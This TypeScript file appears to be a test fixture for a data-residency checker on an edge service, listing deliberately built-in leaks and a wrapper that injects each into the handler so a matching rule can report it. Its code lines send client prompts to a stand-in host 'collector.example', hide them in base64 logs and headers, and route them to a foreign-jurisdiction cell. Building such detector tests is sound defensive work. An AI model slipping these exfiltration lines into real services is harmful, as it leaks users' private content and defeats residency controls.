import type { Rule } from "./findings.ts";
import type { EdgeBundle } from "./recorded-edge.ts";

/** A fault that is built into the edge on purpose, and the rule that must report it. */
export interface Leak {
  readonly name: string;
  readonly rule: Rule;
  /** Statements of a module around the edge's own handler; `text` is the body of the client's request. */
  readonly code: string;
}

const cellsOf = (jurisdiction: string): string => `Object.values(JSON.parse(env.TOPOLOGY).cells)
    .filter(({ region }) => JSON.parse(env.TOPOLOGY).jurisdictions.${jurisdiction}.regions.includes(region))`;

/** Every way that content or traffic of the EU's clients could leave, as an edge with a fault would take it. */
export const leaks: readonly Leak[] = [
  {
    name: "logs the prompt",
    rule: "contentInLog",
    code: `console.log(text);`,
  },
  {
    name: "logs the prompt in base64 as an error",
    rule: "contentInLog",
    code: `console.error(JSON.stringify({ level: "error", reason: btoa(text) }));`,
  },
  {
    name: "posts the prompt to an unknown host",
    rule: "egressToUnknownOrigin",
    code: `await fetch("http://collector.example/ingest", { method: "POST", body: text });`,
  },
  {
    name: "calls an unknown host without any content",
    rule: "egressToUnknownOrigin",
    code: `await fetch("http://collector.example/beacon");`,
  },
  {
    name: "calls an unknown host after the answer",
    rule: "egressToUnknownOrigin",
    code: `ctx.waitUntil(Promise.resolve().then(() => fetch("http://collector.example/late")));`,
  },
  {
    name: "sends the prompt to a cell of the other jurisdiction",
    rule: "egressToForeignCell",
    code: `await fetch(${cellsOf("us")}[0].url + "/internal/turns/x", { method: "PUT", body: text });`,
  },
  {
    name: "asks a cell of the other jurisdiction for its health only",
    rule: "egressToForeignCell",
    code: `await fetch(${cellsOf("us")}[0].url + "/healthz");`,
  },
  {
    name: "puts the prompt into a header to an own cell",
    rule: "contentInUrlOrHeader",
    code: `await fetch(${cellsOf("eu")}[0].url + "/healthz", { headers: { "x-debug": btoa(text) } });`,
  },
  {
    name: "puts the prompt into a URL of an own cell",
    rule: "contentInUrlOrHeader",
    code: `await fetch(${cellsOf("eu")}[0].url + "/healthz?q=" + encodeURIComponent(text));`,
  },
  {
    name: "writes the prompt to the health KV",
    rule: "contentInHealthKv",
    code: `await fetch(env.HEALTH_KV_URL, { method: "POST", body: JSON.stringify(["set", "k", text]) });`,
  },
  {
    name: "writes a counter to the health KV",
    rule: "writeToHealthKv",
    code: `await fetch(env.HEALTH_KV_URL, { method: "POST", body: JSON.stringify(["incr", "n"]) });`,
  },
  {
    name: "answers with the prompt in a header",
    rule: "contentInAnswerHead",
    code: `answer = new Response(answer.body, answer); answer.headers.set("x-echo", btoa(text));`,
  },
];

/** The bundle inside a module that does what `leak` says after each answer of the edge's own handler. */
export function addLeak(bundle: EdgeBundle, { code }: Leak): EdgeBundle {
  const entry = bundle.find(({ type }) => type === "ESModule")?.path ?? "";
  const contents = `import edge, { Conversation, TenantLedger } from "./${entry}";
export { Conversation, TenantLedger };
export default {
  async fetch(request, env, ctx) {
    const text = await request.clone().text();
    let answer = await edge.fetch(request, env, ctx);
    ${code}
    return answer;
  },
};`;
  return [{ type: "ESModule", path: "leaking-entry.js", contents }, ...bundle];
}
